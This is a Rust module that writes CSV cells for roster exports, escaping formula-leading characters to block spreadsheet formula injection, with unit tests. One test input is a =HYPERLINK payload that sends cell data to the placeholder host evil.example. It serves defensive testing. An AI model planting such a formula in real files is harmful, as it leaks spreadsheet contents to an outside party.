//! The one CSV cell writer behind every CSV roster serves (the provisioning-log
//! export, the hand-off). A value from the directory or from an app can start with
//! a character a spreadsheet reads as a formula (`=HYPERLINK(...)`, `+`, `-`, `@`,
//! or a tab or carriage return that some strip before they look): such a cell is
//! prefixed with `'` so that it opens as text, and quoted as RFC 4180 requires.

use serde_json::Value;

/// Characters that make a spreadsheet read a cell as a formula when they lead it.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as one CSV cell: neutralised when it could be a formula, quoted when it
/// holds a comma, a quote or a line break.
pub fn cell(text: &str) -> String {
    let text = if text.starts_with(FORMULA_LEADS) { format!("'{text}") } else { text.to_string() };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// A JSON value as one CSV cell: null is empty, a string its text, anything else
/// its JSON.
pub fn value_cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => cell(s),
        other => cell(&other.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn check(input: &str, expected: &str) {
        assert_eq!(cell(input), expected, "cell({input:?})");
    }

    #[test]
    fn cells_are_quoted_and_formulas_neutralised() {
        check("plain", "plain");
        check("", "");
        check("a,b", "\"a,b\"");
        check("say \"hi\"", "\"say \"\"hi\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check("=1+1", "'=1+1");
        check(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"",
        );
        check("+33 1 23", "'+33 1 23");
        check("-2+3", "'-2+3");
        check("@SUM(A1)", "'@SUM(A1)");
        check("\t=1+1", "'\t=1+1");
        check("\r=1+1", "\"'\r=1+1\"");
        check("a=b", "a=b");
        check("x-1", "x-1");
    }

    #[test]
    fn json_values_become_cells() {
        assert_eq!(value_cell(&Value::Null), "");
        assert_eq!(value_cell(&json!(5)), "5");
        assert_eq!(value_cell(&json!(true)), "true");
        assert_eq!(value_cell(&json!("=1")), "'=1");
        assert_eq!(value_cell(&json!(-5)), "'-5");
        assert_eq!(value_cell(&json!({"a": 1, "b": 2})), "\"{\"\"a\"\":1,\"\"b\"\":2}\"");
    }
}
